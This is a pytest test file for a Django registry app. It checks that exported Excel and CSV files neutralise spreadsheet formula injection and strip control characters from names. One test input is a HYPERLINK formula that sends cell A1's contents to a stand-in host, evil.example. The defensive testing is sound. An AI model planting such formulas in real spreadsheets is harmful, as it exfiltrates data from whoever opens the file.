"""Formula injection (CWE-1236): a value that starts with = + - @ is never written as a live formula
in an export, and control characters never make an export fail."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from doudi.core.cells import clean_name, safe_cell
from doudi.core.scoping import all_regions
from tests.conftest import YANJI, YANJI_T1
from tests.exchange.conftest import header_of, row_of, write_csv

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/"&A1,"点此")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_neutralises_formula_starts(text):
    assert safe_cell(text) == "'" + text


def test_safe_cell_keeps_plain_values_and_drops_xml_controls():
    assert safe_cell("金明哲") == "金明哲" and safe_cell(5) == 5 and safe_cell(None) is None
    assert safe_cell("a\x00b\x07c") == "abc"


def test_clean_name_strips_invisible_and_refuses_controls():
    assert clean_name("金\u200b明\u202e哲 ") == ("金明哲", None)
    assert clean_name("金\x00明")[1] and clean_name("金\x1b明")[1] and clean_name("金\x1f")[1]
    assert clean_name("朴\r\n英子\t") == ("朴 英子", None)
    assert clean_name("王 建国") == ("王 建国", None)


def _formulas(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_household_export_writes_no_formula(client, make_user, regions):
    from doudi.registry import actions

    with all_regions():
        hh = actions.create_household(
            actor="test",
            household_key="=H1",
            region_code=YANJI_T1,
            area_type="urban",
            since=dt.date(2024, 1, 1),
        )
        actions.add_person_to_household(
            actor="test", household=hh, person_key="P1", name=EVIL, id_number="", relation="head",
            since=dt.date(2024, 1, 1),
        )  # fmt: skip
    client.force_login(make_user("county_officer", YANJI))
    response = client.post(reverse("registry:export"), {"name": "=cmd"})
    assert response.status_code == 200
    assert _formulas(response.content) == []
    response = client.post(reverse("registry:export"), {})
    assert _formulas(response.content) == []
    rows = list(load_workbook(io.BytesIO(response.content))["家庭查询结果"].iter_rows(values_only=True))
    assert rows[1][0] == "'=H1" and rows[1][1] == "'" + EVIL


def test_error_report_writes_no_formula(client, make_user, tmp_path):
    from doudi import datasets
    from doudi.exchange.models import Batch

    ds = datasets.get("disability")
    rows = [
        row_of(ds, "R1"),
        row_of(ds, "R2", disability_grade="=1+1"),
        row_of(ds, "=R3", disability_grade="@x"),
    ]
    path = write_csv(tmp_path / "f.csv", header_of(ds), rows)
    client.force_login(make_user("department_user", YANJI, department="disabled_federation"))
    client.post("/exchange/upload/", {"file": SimpleUploadedFile("f.csv", path.read_bytes()),
                                      "dataset": "disability", "as_of": "2025-01-31"})  # fmt: skip
    b = Batch.unscoped.get()
    report = client.get(f"/exchange/{b.pk}/errors.xlsx")
    assert report.status_code == 200
    assert _formulas(report.content) == []
    values = [
        r[2] for r in load_workbook(io.BytesIO(report.content)).active.iter_rows(min_row=2, values_only=True)
    ]
    assert "'=1+1" in values


def test_warnings_csv_neutralises_keys(tmp_path):
    from doudi.monitoring.loop import warning_export

    out = tmp_path / "w.csv"
    with out.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerow(warning_export.safe_row(["=1", "-2", "ok", 3]))
    assert out.read_text(encoding="utf-8").strip() == "'=1,'-2,ok,3"
